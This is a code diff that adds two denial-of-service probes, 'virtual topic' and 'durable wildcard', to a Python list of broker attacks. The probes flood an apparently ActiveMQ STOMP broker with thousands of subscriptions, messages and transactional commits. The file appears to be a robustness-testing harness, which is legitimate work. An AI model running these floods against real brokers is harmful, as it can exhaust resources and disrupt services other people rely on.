@@ -169,6 +169,27 @@ def temporaries(target: Target) -> None:
     client.drop()
 
 
+def virtual_topic(target: Target) -> None:
+    """A message, and COMMITs, to a virtual topic of 9 000 queues."""
+    client, count = target.client(60), target.times(9000)
+    use = b"SUBSCRIBE\nid:q\ndestination:/queue/Consumer.%d.VirtualTopic.abuse\n\n\0UNSUBSCRIBE\nid:q\n\n\0"
+    send_all(client, (use % number for number in range(count)))
+    send = b"SEND\ndestination:/topic/VirtualTopic.abuse\n%s\nx\0"
+    for headers in (b"", b"persistent:true\n"):
+        send_all(client, [send % headers])
+        begin, commit = b"BEGIN\ntransaction:t\n\n\0", b"COMMIT\ntransaction:t\n\n\0"
+        send_all(client, [begin, send % (headers + b"transaction:t\n"), commit])
+
+
+def durable_wildcard(target: Target) -> None:
+    """A durable subscription to 15 000 topics, begun, left and removed."""
+    client = target.client(60, client_id="abuse")
+    send_all(client, (b"SEND\ndestination:/topic/abuse.t.%d\n\nx\0" % number for number in range(target.times(15_000))))
+    name = b"activemq.subscriptionName:all\n"
+    send_all(client, [b"SUBSCRIBE\nid:all\ndestination:/topic/abuse.t.>\n%s\n\0" % name])
+    send_all(client, [b"UNSUBSCRIBE\nid:all\n\n\0", b"UNSUBSCRIBE\nid:all\n%s\n\0" % name])
+
+
 LOOP_ATTACKS = [
     Attack("ABORT of many", aborts),
     Attack("one ACK of many", cumulative),
@@ -184,4 +205,6 @@ LOOP_ATTACKS = [
     Attack("COMMIT of many", commits),
     Attack("selectors", selectors),
     Attack("temporary queues", temporaries),
+    Attack("virtual topic", virtual_topic),
+    Attack("durable wildcard", durable_wildcard),
 ]
